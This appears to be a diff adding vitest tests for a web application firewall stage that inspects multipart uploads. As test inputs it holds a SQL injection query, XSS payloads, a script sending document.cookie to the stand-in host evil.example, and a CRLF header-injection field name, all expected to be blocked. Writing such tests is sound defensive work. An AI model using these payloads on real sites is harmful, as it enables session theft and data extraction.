@@ -2,7 +2,9 @@ import { describe, expect, it } from "vitest";
 import { createPipelineConfig } from "../config";
 import { createEdgeContext, runPipeline } from "../pipeline";
 import { wafConfig } from "../waf/config";
-import { rawPathAndQuery, wafInputOf, wafStage } from "./waf";
+import { inspectRequest } from "../waf/engine";
+import { DEFAULT_WAF_CONFIG } from "../waf/config";
+import { rawPathAndQuery, wafInputOf, wafInputOfFields, wafStage } from "./waf";
 
 const config = createPipelineConfig({}, { CYANEA_LOG_HASH_SALT: "s" });
 const ATTACK = "/api/datasets?q=1%27%20UNION%20SELECT%20password%20FROM%20users--&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
@@ -53,5 +55,35 @@ describe("WAF stage adapter", () => {
     const { decision, ctx } = await run(ATTACK, {}, detect);
     expect(decision).toEqual({ kind: "allow" });
     expect(ctx.waf!.score).toBeGreaterThanOrEqual(25);
+  });
+
+  it("reads multipart bodies like any other body", async () => {
+    const form = new FormData();
+    form.append("comment", "<script>alert(document.cookie)</script>");
+    const req = new Request("http://localhost/api/labs", { method: "POST", body: form });
+    const input = await wafInputOf(req, 64 * 1024);
+    expect(input.body?.contentType).toMatch(/^multipart\/form-data; boundary=/);
+    expect(input.body?.text).toContain("alert(document.cookie)");
+    expect(inspectRequest(input, DEFAULT_WAF_CONFIG).action).toBe("block");
+  });
+
+  it("inspects already-parsed upload fields as multipart values under their names", () => {
+    const req = new Request("http://localhost/api/datasets", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=x", "user-agent": "Mozilla/5.0", host: "localhost", accept: "*/*" } });
+    const clean = wafInputOfFields(req, {
+      title: "E. coli K-12 MG1655 (RefSeq NC_000913.3) — 5' UTR variants",
+      description: "Reads trimmed with `cutadapt -a AGATCGGAAGAGC` and mapped with bwa mem; GC = 50.8%, see ../README.",
+      tags: "genome, e-coli",
+    });
+    expect(clean.body?.text).toContain('name="title"');
+    expect(inspectRequest(clean, DEFAULT_WAF_CONFIG).action).toBe("allow");
+
+    const attack = wafInputOfFields(req, { title: "x", description: "<script>document.location='http://evil.example/?c='+document.cookie</script>" });
+    const result = inspectRequest(attack, DEFAULT_WAF_CONFIG);
+    expect(result.action).toBe("block");
+    expect(result.matched.some((m) => m.target === "multipart:description")).toBe(true);
+
+    // A field name cannot break out of its part header.
+    const odd = wafInputOfFields(req, { 'a"\r\nX-Injected: 1': "v" });
+    expect(odd.body?.text).not.toContain("\r\nX-Injected");
   });
 });
